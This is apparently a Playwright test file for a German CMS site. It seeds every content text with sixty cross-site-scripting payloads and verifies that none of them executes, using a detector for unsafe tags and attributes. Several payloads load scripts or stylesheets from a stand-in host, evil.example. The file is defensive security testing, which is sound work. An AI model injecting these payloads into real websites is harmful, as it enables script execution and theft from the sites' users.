import type { Page } from 'playwright/test';
import { openLink } from './harness/centre.ts';
import { expect, test } from './harness/test.ts';

/** Script injections in sixty spellings; each would call `hit`. */
const payloads: readonly string[] = [
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script\u0000>hit()</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '</title><script>hit()</script>',
  '--><script>hit()</script>',
  ']]><script>hit()</script>',
  '"><script>hit()</script>',
  "'-hit()-'",
  '<img src=x onerror=hit()>',
  '<img src=/cms/images/logo onload=hit()>',
  '<img srcset=x onerror=hit()>',
  '<IMG """><SCRIPT>hit()</SCRIPT>">',
  '"onmouseover=hit() x="',
  '" autofocus onfocus=hit() "',
  "' onclick=hit() '",
  '<svg onload=hit()>',
  '<svg/onload=hit()//',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,x#y">',
  '<math><maction actiontype=statusline xlink:href="javascript:hit()">x',
  '<body onload=hit()>',
  '<details open ontoggle=hit()>',
  '<marquee onstart=hit()>x</marquee>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<input autofocus onfocus=hit()>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()">',
  '<embed src="javascript:hit()">',
  '<form action="javascript:hit()"><button>x</button></form>',
  '<button formaction="javascript:hit()">x</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<a href="javascript:hit()">hier</a>',
  '<a href=" java\nscript:hit()">hier</a>',
  '<a href="&#106;avascript:hit()">hier</a>',
  '<a href="data:text/html,<script>hit()</script>">hier</a>',
  '<a href="/" onclick="hit()">hier</a>',
  '<b onmouseover=hit() style="x:expression(hit())">fett</b>',
  '<p style="background:url(javascript:hit())">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<template><script>hit()</script></template>',
  '<x-y is=script onpointerrawupdate=hit()>x',
  'javascript:hit()',
  'JaVaScRiPt:hit()//',
  'data:text/html,<script>hit()</script>',
  'vbscript:hit()',
  '//evil.example/',
  '{{constructor.constructor("hit()")()}}',
  '${hit()} $t(hit)',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '%3Cscript%3Ehit()%3C/script%3E',
  '__proto__',
];

type Json = string | number | boolean | null | readonly Json[] | { readonly [name: string]: Json };

/**
 * Members that determine the type or structure of a part. Replacing them may drop the part, so they are only replaced
 * in a copy.
 */
const structure = new Set([
  'type',
  'anchor',
  'key',
  'schemaPath',
  'schemaPaths',
  'displayStart',
  'displayEnd',
  '$schema',
]);

/** The document with a different payload in each text, starting with number `first`. */
function poisoned(document: Json, first: number): Json {
  let next = first;
  const payload = (): string => payloads[next++ % payloads.length] ?? '';
  const walk = (node: Json, keeps: ReadonlySet<string>, name = ''): Json => {
    if (typeof node === 'string') return keeps.has(name) ? node : payload();
    if (Array.isArray(node)) {
      const parts = node.map((part: Json) => walk(part, keeps, name));
      const copies =
        name === 'components'
          ? node.flatMap((part: Json) => [walk(part, new Set(['type'])), walk(part, new Set())])
          : [];
      return [...parts, ...copies];
    }
    return typeof node === 'object' && node !== null
      ? Object.fromEntries(Object.entries(node).map(([key, part]) => [key, walk(part, keeps, key)]))
      : node;
  };
  return walk(document, structure);
}

/** Expects that none of the content became code and that every link is safe. */
async function expectHarmless(page: Page): Promise<void> {
  const harm = await page.evaluate(() => {
    const isOdd = ({ name, value }: Attr): boolean =>
      name.startsWith('on') ||
      (/^(?:href|src|action|formaction|data|srcdoc)$|:href$/.test(name) &&
        !/^(?:https?:\/\/|\/(?!\/)|#|mailto:|tel:|\?)/.test(value));
    const elements = [...document.body.querySelectorAll('*')];
    const foreign = elements.filter(({ tagName }) =>
      /^(?:script|iframe|object|embed|base|meta|link|style|template|marquee|video|audio|math|maction|animate)$/i.test(
        tagName,
      ),
    );
    return [
      ...foreign.map(({ outerHTML }) => outerHTML),
      ...elements.flatMap(({ attributes }) =>
        [...attributes].filter(isOdd).map(({ name, value }) => `${name}=${value}`),
      ),
    ];
  });
  expect(harm).toEqual([]);
}

test('texts of all components stay texts, whatever is in them', async ({ page, product, qa, troubles }) => {
  const shifts = process.env['KONTOR_LONG'] === '1' ? payloads.map((_payload, index) => index) : [0];
  test.setTimeout(60_000 + shifts.length * 20_000);
  expect(new Set(payloads).size).toBe(60);
  await page.exposeFunction('hit', () => troubles.list.push('content was executed'));
  page.on('dialog', (dialog) => void dialog.dismiss());
  const clean = (await (await fetch(`${product.site}/cms/germany/de.json`)).json()) as Json;
  const { loginID } = await qa.newCustomer();
  try {
    for (const shift of shifts) {
      await qa.call('PUT', '/content/de', poisoned(clean, shift));
      await openLink(page, qa, loginID);
      const tabs = page.getByRole('tab');
      await expect(tabs).toHaveCount(6);
      for (const tab of await tabs.all()) {
        await tab.click();
        await expect(tab).toHaveAttribute('aria-selected', 'true');
        await expect(page.getByRole('tabpanel').first()).toBeVisible();
        await expectHarmless(page);
      }
      await expect(page.getByRole('main')).toContainText('hit()');
      await page.goto(`${product.site}/login`);
      await expect(page.getByRole('button', { name: 'Anmelden', exact: true })).toBeVisible();
      await expectHarmless(page);
      expect(troubles.list, `from payload ${shift}`).toEqual([]);
    }
  } finally {
    await qa.reset();
  }
});

test('content that ran as code would be noticed (control)', async ({ page, product }) => {
  await page.goto(`${product.site}/login`);
  await expect(page.getByRole('button', { name: 'Anmelden', exact: true })).toBeVisible();
  await page.evaluate(() => {
    const link = document.createElement('a');
    link.setAttribute('href', ' javascript:hit()');
    document.body.append(link);
  });
  await expect(expectHarmless(page)).rejects.toThrow('javascript:hit()');
});
